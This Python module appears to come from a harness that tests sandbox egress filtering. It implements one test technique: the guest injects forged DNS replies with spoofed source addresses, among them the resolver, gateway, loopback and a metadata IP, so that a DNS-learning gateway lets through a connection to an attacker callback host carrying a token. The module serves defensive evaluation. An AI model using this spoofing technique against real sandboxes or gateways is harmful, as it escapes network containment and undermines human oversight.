"""The first published bypass: a gateway that learns addresses from DNS replies believes one that the guest sends itself."""

from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, Technique

TECHNIQUE = Technique(
    tries="Forge a DNS reply, with a forged source, which says that an allowed name is at the attacker's address, and dial that.",
    claim="E3",
    defences=("edge filter and source check",),
    stopped_by=("foreign_source",),
    policies=BOTH,
    variants={
        "of the resolver": "resolver", "of the gateway": "gateway", "of loopback": "127.0.0.1", "of metadata": "169.254.169.254",
        "of a synthetic address": "198.18.0.77", "of a public resolver": "192.0.2.53",
    },
    source="published evaluation of sandboxes' egress: a forged reply with a forged source address",
    quick=True,
)  # fmt: skip


def attack(case: Case, what: Any) -> None:
    ground = case.ground
    source = {"resolver": ground.resolver_at, "gateway": ground.gateway}.get(what, what)
    replies = [inside.answer_of(ground.packages, ground.callback_at, ident) for ident in (0, 7)]
    forged = [
        inside.ether(inside.udp(one, to=ground.gateway, port=port, source=source, source_port=53))
        for one in replies
        for port in (53, 33_000)
    ]
    case.frames(*forged, rounds=3)
    if case.policy == "narrow":
        case.http(ground.packages, f"/simple/{case.token}/")
        case.frames(*forged, rounds=3)
    case.connect(ground.callback_at, 443, case.token.encode(), seconds=2)
